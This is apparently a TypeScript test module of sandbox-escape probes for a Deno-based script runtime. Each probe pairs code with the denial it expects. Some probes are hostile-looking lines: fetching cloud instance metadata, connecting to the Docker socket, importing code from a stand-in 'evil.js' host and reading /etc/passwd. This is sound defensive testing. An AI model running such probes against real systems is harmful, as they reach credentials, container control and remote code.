import { noPermission, type ValProbe } from "./val-probe.ts"

const { net } = noPermission
const noName =
  /^(NotCapable: Requires net access to |Error: getaddrinfo (EPERM|ENOTFOUND|EAI_AGAIN)|Error: proto error: io error: No such file)/
const readOrNet = /^NotCapable: Requires (read|write|net) access to /

/** Waits for the first of two events of Node. */
function firstOf(good: string, bad = "error"): string {
  return `return await new Promise((resolve, reject) => { thing.once("${good}", () => resolve("${good}")); thing.once("${bad}", reject) })`
}

/** Any way to anybody else: the API, the internet, neighbours, the host. */
export const networkProbes: readonly ValProbe[] = [
  {
    tries: "to connect to the API over TCP",
    code: ({ port }) => `return (await Deno.connect({ hostname: "127.0.0.1", port: ${port} })).remoteAddr`,
    denied: net,
  },
  {
    tries: "to connect to the API by the name localhost",
    code: ({ port }) => `return (await Deno.connect({ hostname: "localhost", port: ${port} })).remoteAddr`,
    denied: net,
  },
  {
    tries: "to connect to the API over IPv6",
    code: ({ port }) => `return (await Deno.connect({ hostname: "::1", port: ${port} })).remoteAddr`,
    denied: net,
  },
  {
    tries: "to connect to 0.0.0.0",
    code: ({ port }) => `return (await Deno.connect({ hostname: "0.0.0.0", port: ${port} })).remoteAddr`,
    denied: net,
  },
  {
    tries: "to connect to a machine in the internet",
    code: `return (await Deno.connect({ hostname: "1.1.1.1", port: 53 })).remoteAddr`,
    denied: net,
  },
  {
    tries: "to connect to the metadata of a cloud",
    code: `return await (await fetch("http://169.254.169.254/latest/meta-data/")).text()`,
    denied: net,
  },
  { tries: "to connect with TLS", code: `return (await Deno.connectTls({ hostname: "example.com", port: 443 })).remoteAddr`, denied: net },
  { tries: "to listen on a port", code: `return Deno.listen({ port: 0 }).addr`, denied: net },
  { tries: "to serve a port of its own", code: `return Deno.serve({ port: 0, onListen() {} }, () => new Response()).addr`, denied: net },
  {
    tries: "to listen on a Unix socket in /tmp",
    code: `return Deno.listen({ transport: "unix", path: "/tmp/evil.sock" }).addr`,
    denied: readOrNet,
  },
  {
    tries: "to open a datagram socket",
    code: `return Deno.listenDatagram({ transport: "udp", port: 0 }).addr`,
    denied: /^(NotCapable: Requires net access to |TypeError: Deno\.listenDatagram is not a function)/,
  },
  {
    tries: "to connect to a second control socket",
    code: `return (await Deno.connect({ transport: "unix", path: "/run/val/control.sock" })).localAddr`,
    denied: readOrNet,
  },
  {
    tries: "to connect to its own socket",
    code: `return (await Deno.connect({ transport: "unix", path: "/run/val/in.sock" })).localAddr`,
    denied: readOrNet,
  },
  {
    tries: "to connect to the socket of a neighbour",
    code: ({ neighbourFolder }) => `return (await Deno.connect({ transport: "unix", path: "${neighbourFolder}/run/in.sock" })).localAddr`,
    denied: readOrNet,
  },
  {
    tries: "to connect to an abstract Unix socket",
    code: `return (await Deno.connect({ transport: "unix", path: "\\0/tmp/.X11-unix/X0" })).localAddr`,
    denied: readOrNet,
  },
  {
    tries: "to connect to the socket of Docker",
    code: `return (await Deno.connect({ transport: "unix", path: "/var/run/docker.sock" })).localAddr`,
    denied: readOrNet,
  },
  {
    tries: "to connect over vsock",
    code: `return (await Deno.connect({ transport: "vsock", cid: 2, port: 80 })).localAddr`,
    ends: /^crashed /,
  },
  { tries: "to ask a name server", code: `return await Deno.resolveDns("example.com", "A")`, denied: noName },
  {
    tries: "to ask a name server of its choice",
    code: `return await Deno.resolveDns("example.com", "TXT", { nameServer: { ipAddr: "1.1.1.1", port: 53 } })`,
    denied: net,
  },
  {
    tries: "to look a name up as Node does",
    code: `return await (await import("node:dns/promises")).lookup("example.com")`,
    denied: noName,
  },
  {
    tries: "to resolve a name as Node does",
    code: `return await (await import("node:dns/promises")).resolve4("example.com")`,
    denied: /^Error: queryA /,
  },
  { tries: "to fetch from the API", code: ({ baseUrl }) => `return (await fetch("${baseUrl}/v1/vals")).status`, denied: net },
  { tries: "to fetch from its own web address", code: `return (await fetch(request.url)).status`, denied: net },
  { tries: "to fetch from the internet", code: `return (await fetch("https://example.com")).status`, denied: net },
  {
    tries: "to fetch through a proxy that it names",
    code: `const client = Deno.createHttpClient({ proxy: { url: "http://127.0.0.1:3128" } }); return (await fetch("http://example.com", { client })).status`,
    denied: net,
  },
  {
    tries: "to fetch through its own control socket",
    code: `const client = Deno.createHttpClient({ proxy: { transport: "unix", path: "/run/val/control.sock" } }); return (await fetch("http://localhost/", { client })).status`,
    denied: readOrNet,
  },
  {
    tries: "to fetch through a proxy from the environment",
    code: `try { Deno.env.set("HTTP_PROXY", "unix:/run/val/in.sock") } catch {} return (await fetch("http://example.com/")).status`,
    denied: net,
  },
  {
    tries: "to open a WebSocket to the API",
    code: ({ port }) =>
      `return await new Promise((resolve, reject) => { const socket = new WebSocket("ws://127.0.0.1:${port}/"); socket.onopen = () => resolve("open"); socket.onerror = (event) => reject(event.error ?? new Error(event.message)) })`,
    denied: net,
  },
  {
    tries: "to open a stream of WebSocket messages",
    code: ({ port }) => `return (await new WebSocketStream("ws://127.0.0.1:${port}/").opened).protocol`,
    denied: /^(NotCapable: Requires net access to |ReferenceError: WebSocketStream is not defined)/,
  },
  {
    tries: "to listen to events of the API",
    code: ({ baseUrl }) =>
      `return await new Promise((resolve, reject) => { const source = new EventSource("${baseUrl}/v1/vals"); source.onopen = () => resolve("open"); source.onerror = () => { source.close(); reject(new Error("refused")) } })`,
    denied: /^(Error: refused|NotCapable: Requires net access to )/,
  },
  {
    tries: "to open a session of WebTransport",
    code: `return await new WebTransport("https://example.com:4433").ready`,
    denied: /^(NotCapable: Requires net access to |ReferenceError: WebTransport is not defined|WebTransportError)/,
  },
  {
    tries: "to open an endpoint of QUIC",
    code: `return new Deno.QuicEndpoint().addr`,
    denied: /^(NotCapable: Requires net access to |TypeError: Deno\.QuicEndpoint is not a constructor)/,
  },
  {
    tries: "to connect as Node does",
    code: ({ port }) => `const thing = (await import("node:net")).connect(${port}, "127.0.0.1"); ${firstOf("connect")}`,
    denied: net,
  },
  {
    tries: "to connect to a Unix socket as Node does",
    code: `const thing = (await import("node:net")).connect("/run/val/control.sock"); ${firstOf("connect")}`,
    denied: readOrNet,
  },
  {
    tries: "to listen as Node does",
    code: `const thing = (await import("node:net")).createServer().listen(0); ${firstOf("listening")}`,
    denied: net,
  },
  {
    tries: "to serve as Node does",
    code: `const thing = (await import("node:http")).createServer().listen(0); ${firstOf("listening")}`,
    denied: net,
  },
  {
    tries: "to get from the API as Node does",
    code: ({ baseUrl }) => `const thing = (await import("node:http")).get("${baseUrl}/v1/vals"); ${firstOf("response")}`,
    denied: noName,
  },
  {
    tries: "to get from the internet as Node does",
    code: `const thing = (await import("node:https")).get("https://example.com/"); ${firstOf("response")}`,
    denied: noName,
  },
  {
    tries: "to speak HTTP/2 with the API as Node does",
    code: ({ baseUrl }) => `const thing = (await import("node:http2")).connect("${baseUrl}"); ${firstOf("connect")}`,
    denied: noName,
  },
  {
    tries: "to speak TLS as Node does",
    code: `const thing = (await import("node:tls")).connect(443, "example.com"); ${firstOf("secureConnect")}`,
    denied: noName,
  },
  {
    tries: "to send a datagram as Node does",
    code: `const thing = (await import("node:dgram")).createSocket("udp4"); thing.send("x", 53, "1.1.1.1", (error) => thing.emit(error ? "error" : "sent", error)); ${firstOf("sent")}`,
    ends: /^failed NotCapable: Requires net access to /,
  },
  {
    tries: "to join a multicast group",
    code: `const thing = (await import("node:dgram")).createSocket("udp4"); thing.bind(0, () => { try { thing.addMembership("224.0.0.251"); thing.emit("joined") } catch (error) { thing.emit("error", error) } }); ${firstOf("joined")}`,
    ends: /^failed NotCapable: Requires net access to /,
  },
  {
    tries: "to import a module from the internet",
    code: `return Object.keys(await import("https://esm.example.com/evil.js"))`,
    denied: /^TypeError: (Requires import access to "esm\.example\.com:443"|.*not found in cache)/i,
  },
  {
    tries: "to import an answer of the API",
    code: ({ baseUrl }) => `return Object.keys((await import("${baseUrl}/openapi.json", { with: { type: "json" } })).default)`,
    denied: /^TypeError: .*(not found in cache|Cannot import)/is,
  },
  {
    tries: "to import a val's answer from its web address",
    code: `return Object.keys(await import(request.url))`,
    denied: /^TypeError: (Requires import access to |.*not found in cache|.*Cannot import)/is,
  },
  { tries: "to import from npm", code: `return Object.keys(await import("npm:left-pad"))`, denied: /^TypeError: / },
  { tries: "to import from JSR", code: `return Object.keys(await import("jsr:@std/assert"))`, denied: /^TypeError: / },
  {
    tries: "to reach a neighbour by a BroadcastChannel",
    code: `const channel = new BroadcastChannel("neighbours"); channel.postMessage("anybody?"); const heard = await Promise.race([new Promise((resolve) => { channel.onmessage = ({ data }) => resolve(data) }), new Promise((resolve) => setTimeout(resolve, 100, "nobody"))]); channel.close(); return heard`,
    gets: "nobody",
  },
  {
    tries: "to run code that is in its address",
    code: `return (await import("data:text/javascript,export default typeof Deno.readTextFileSync('/etc/passwd')")).default`,
    denied: noPermission.read,
  },
]
